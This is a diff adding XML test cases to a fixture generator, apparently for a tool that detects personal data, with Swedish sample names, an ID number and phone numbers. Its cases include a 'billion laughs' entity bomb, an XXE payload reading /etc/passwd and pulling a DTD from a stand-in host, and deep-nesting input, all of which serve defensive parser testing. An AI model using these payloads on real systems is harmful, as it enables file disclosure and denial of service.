@@ -144,6 +144,46 @@ def html():
          "<option>Två</select><textarea>rad 1\nrad 2</textarea><button>OK</button></form>")
 
 
+ENTRIES = """<?xml version="1.0" encoding="ISO-8859-1"?>
+<!-- ur registret, ring 070-174 06 05 -->
+<k:register xmlns:k="http://example.org/k">
+  <k:person personnummer="198001139818">
+    <k:namn>\u00c5sa   \u00d6berg &amp; Bo</k:namn><k:telefon>070-174 06 06</k:telefon>
+    <falt name="ort">Malm&#246;</falt>
+    <anm>F\u00f6dd <b>19</b>81 i <i>L</i>und<br/>sedan <plats>Ystad</plats> igen</anm>
+    <![CDATA[<anna.ek@example.org> & 1 > 0]]>
+  </k:person>
+</k:register>
+"""
+
+
+def xml():
+    case("xml/register", ENTRIES.encode("latin-1"))
+    case("xml/utf16", ENTRIES.replace("ISO-8859-1", "UTF-16").rstrip().encode("utf-16"))
+    case("xml/utf8-silent", ENTRIES.replace(' encoding="ISO-8859-1"', ""))
+    case("xml/wrong-encoding", ENTRIES)
+    case("xml/no-declaration", "<note><to>Anna Ek</to></note>")
+    case("xml/runs", '<?xml version="1.0"?><w:x xmlns:w="x"><w:p><w:r><w:t>1980</w:t></w:r>'
+         "<w:r><w:t>01139818</w:t></w:r></w:p><w:p/></w:x>")
+    case("xml/entities", '<?xml version="1.0"?>\n<!DOCTYPE a [ <!ENTITY namn "Anna Ek"> <!ENTITY pil "->">\n'
+         "<!-- Bo --> ]>\n<a>&namn; &aring; &okand;</a>")
+    case("xml/bomb", '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a0 "ha">'
+         + "".join('<!ENTITY a%d "%s">' % (i, "&a%d;" % (i - 1) * 10) for i in range(1, 10))
+         + "]><l>&a9;</l>")
+    case("xml/external", '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">'
+         '<!ENTITY % y SYSTEM "http://192.0.2.1/x.dtd"> %y;]><l>&x;</l>')
+    case("xml/external-dtd", '<?xml version="1.0"?><!DOCTYPE l SYSTEM "http://192.0.2.1/x.dtd"><l>Anna</l>')
+    case("xml/cut", '<?xml version="1.0"?><a><b>Anna Ek</b><c>070-174 0')
+    case("xml/cut-tag", '<?xml version="1.0"?><a><b namn="Anna')
+    case("xml/mismatch", '<?xml version="1.0"?><a><b>Anna</a>Bo</c><d>Eva</d>')
+    case("xml/unescaped", '<?xml version="1.0"?><a>Ek & Co, 1 < 2 <3 <b x=1 y>Bo</b></a>')
+    case("xml/nested", '<?xml version="1.0"?>' + "<a>" * 5000 + "Anna Ek" + "</a>" * 5000)
+    case("xml/svg", '<svg xmlns="http://www.w3.org/2000/svg"><text x="1">Anna <tspan>E</tspan>k</text></svg>')
+    case("xml/instruction", "<?xml version='1.0'?><?php if (1 > 0) echo 'Anna Ek'; ?><a>Bo</a>")
+    case("xml/long-value", '<?xml version="1.0"?><a b="' + "0123456789 " * 2000 + 'Anna Ek"/>')
+    case("xml/cdata-brackets", '<?xml version="1.0"?><a><![CDATA[]]]]><![CDATA[>Anna]] Ek]]></a>')
+
+
 def png(*extra):
     def chunk(kind, data):
         return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
@@ -229,4 +269,5 @@ if __name__ == "__main__":
     csv()
     json()
     html()
+    xml()
     binary()
